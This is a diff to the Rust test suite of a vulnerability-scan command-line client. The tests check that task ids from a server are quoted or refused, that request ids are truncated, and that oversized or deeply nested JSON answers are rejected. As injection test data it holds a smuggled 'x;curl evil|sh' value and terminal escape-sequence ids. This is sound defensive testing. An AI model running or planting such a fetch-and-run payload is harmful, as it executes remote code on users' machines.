@@ -85,12 +85,59 @@ fn a_command_to_paste_runs_nothing_that_a_server_named() {
     let started = run(&mut hss_at(&server.url, &["scan", "start", "--all-hosts"]));
     assert_eq!(started.printed(), "x;curl evil|sh\n");
     assert_eq!(started.stderr, "started; follow it with: hss scan wait 'x;curl evil|sh'\n");
-    let server = Canned::new([canned::json(200, &json!({"task_id": "--html=\u{1b}[2J"}).to_string())]);
+    let server = Canned::new([canned::json(200, &json!({"task_id": "--html=x y"}).to_string())]);
     let started = run(&mut hss_at(&server.url, &["scan", "start", "--all-hosts"]));
-    assert_eq!(started.stderr, "started; follow it with: hss scan wait -- $'--html=\\033[2J'\n");
+    assert_eq!(started.stderr, "started; follow it with: hss scan wait -- '--html=x y'\n");
     // What is printed is what a command takes.
     let server = Canned::new([canned::json(200, r#"{"total_num":1,"data_list":[{"id":"-x","status":"finished"}]}"#)]);
     run(&mut hss_at(&server.url, &["scan", "wait", "--", "-x"])).printed();
+}
+
+#[test]
+fn ids_of_requests_are_cut_in_messages() {
+    let answer = |body: &Value| {
+        let mut answer = canned::json(200, &body.to_string());
+        answer.headers.insert("X-Request-Id".to_owned(), "r".repeat(60_000));
+        answer
+    };
+    let nothing = json!({"total_num": 0, "data_list": []});
+    for (body, arguments) in [
+        (&nothing, &["scan", "list", "-v"][..]),
+        (&nothing, &["scan", "show", "t1"]),
+        (&nothing, &["api", "ListVulScanTask", "-v"]),
+        (&json!({}), &["scan", "start", "--all-hosts"]),
+    ] {
+        let server = Canned::new([answer(body)]);
+        let ran = run(&mut hss_at(&server.url, arguments));
+        assert!(ran.stderr.contains("rrr…") && ran.stderr.len() < 700, "{arguments:?}: {} bytes", ran.stderr.len());
+    }
+}
+
+#[test]
+fn the_id_of_a_task_that_cannot_be_shown_is_refused_and_the_scan_is_said_to_have_started() {
+    for (id, said) in [
+        ("x".repeat(3_000_000), "the answer names a task by an id of 3000000 characters"),
+        ("x".repeat(257), "the answer names a task by an id of 257 characters"),
+        ("t\u{1b}[2J".to_owned(), "the answer names a task by an id with hidden characters"),
+        ("t\n2".to_owned(), "the answer names a task by an id with hidden characters"),
+        (String::new(), "the answer names no task"),
+    ] {
+        for more in [&[][..], &["--wait"], &["-q", "-o", "json"]] {
+            let server = Canned::new([canned::json(200, &json!({"task_id": id}).to_string())]);
+            let ran = run(hss_at(&server.url, &["scan", "start", "--all-hosts"]).args(more));
+            let said = format!("hss: CreateVulnerabilityScanTask: {said} (request id ");
+            assert!(ran.failed_with(1).starts_with(&said), "{more:?}: {}", ran.stderr);
+            assert!(
+                ran.stderr.ends_with("). The scan has started: see hss scan list --max 5\n"),
+                "{more:?}: {}",
+                ran.stderr
+            );
+            assert_eq!(server.requests().len(), 1, "{more:?}");
+        }
+    }
+    let id = "x".repeat(256);
+    let server = Canned::new([canned::json(200, &json!({"task_id": id}).to_string())]);
+    assert_eq!(run(&mut hss_at(&server.url, &["scan", "start", "--all-hosts"])).printed(), format!("{id}\n"));
 }
 
 #[test]
@@ -203,7 +250,7 @@ fn bc_44_a_later_page_that_fails_leaves_no_document() {
 
 #[test]
 fn an_answer_that_would_take_much_memory_is_not_converted() {
-    let body = format!("{{\"total_num\":1,\"data_list\":[{{\"k\":1}}{}]}}", ",{\"k\":1}".repeat(150_000));
+    let body = format!("{{\"total_num\":1,\"data_list\":[{{\"k\":1}}{}]}}", ",{\"kkkkkkkkkk\":1}".repeat(70_000));
     let server = Canned::new([canned::json(200, &body), canned::json(200, &body)]);
     let call = ["api", "ListVulScanTaskHost", "--task_id", TASK];
     let ran = run(hss_at(&server.url, &call).args(["-o", "csv"]));
@@ -213,4 +260,47 @@ fn an_answer_that_would_take_much_memory_is_not_converted() {
         ran.stderr
     );
     assert_eq!(run(hss_at(&server.url, &call).args(["-o", "json"])).printed().len(), body.len() + 1);
+
+    // Lists in lists take the most memory for their size.
+    for (open, close, count) in [("[", "]", 1100), ("{\"a\":0,\"\":", "}", 600)] {
+        let nested = format!("{}0{}", open.repeat(100), close.repeat(100));
+        let nested = format!("[{}]", vec![nested; count].join(","));
+        let server = Canned::new([canned::json(200, &nested)]);
+        let ran = run(hss_at(&server.url, &call).args(["--query", "@"]));
+        assert!(ran.failed_with(1).contains("more than 100000 list members and fields"), "{}", ran.stderr);
+    }
+}
+
+#[test]
+fn a_page_with_long_causes_is_converted() {
+    let types = ["linux_vul", "windows_vul", "web_cms", "app_vul", "urgent_vul", "emergency_vul"];
+    let reason = "the agent is offline; restart it, [see the manual], and try again. ".repeat(3);
+    let causes = |_| types.map(|kind| json!({"vul_type": kind, "status": "failed", "failed_reason": reason}));
+    let rows: Vec<_> =
+        (0..200).map(|row| json!({"host_id": row.to_string(), "vul_scan_details": causes(row)})).collect();
+    let body = json!({"total_num": 200, "data_list": rows}).to_string();
+    assert!(body.len() > 300_000);
+    let server = Canned::new([canned::json(200, &body), canned::json(200, &body)]);
+    let ran = run(&mut hss_at(
+        &server.url,
+        &["api", "ListVulScanTaskHost", "--task_id", TASK, "--query", "length(data_list)"],
+    ));
+    assert_eq!(ran.printed(), "200\n");
+    let ran = run(&mut hss_at(&server.url, &["scan", "hosts", TASK, "--query", "length(data_list)"]));
+    assert_eq!(ran.printed(), "200\n");
+}
+
+#[test]
+fn an_answer_that_no_list_needs_is_not_read() {
+    let body = json!({"total_num": 1, "data_list": [{"host_name": "\u{7f}".repeat(5_000_000)}]});
+    for more in [&["-o", "json"][..], &["--group-by", "cause"], &["--query", "@"]] {
+        let ran = hosts_of(&body, more);
+        assert!(ran.failed_with(1).contains("the answer is larger than the limit of 4194304 bytes"), "{more:?}");
+        assert!(ran.stderr.contains(". Ask for fewer rows at once"), "{more:?}: {}", ran.stderr);
+    }
+    let detail = json!({"vul_type": "", "status": ""});
+    let body = json!({"total_num": 1, "data_list": [{"vul_scan_details": vec![detail; 60_000]}]});
+    let ran = hosts_of(&body, &["--query", "@"]);
+    assert!(ran.failed_with(1).contains("more than 100000 list members and fields"), "{}", ran.stderr);
+    hosts_of(&body, &["-o", "csv"]).printed();
 }
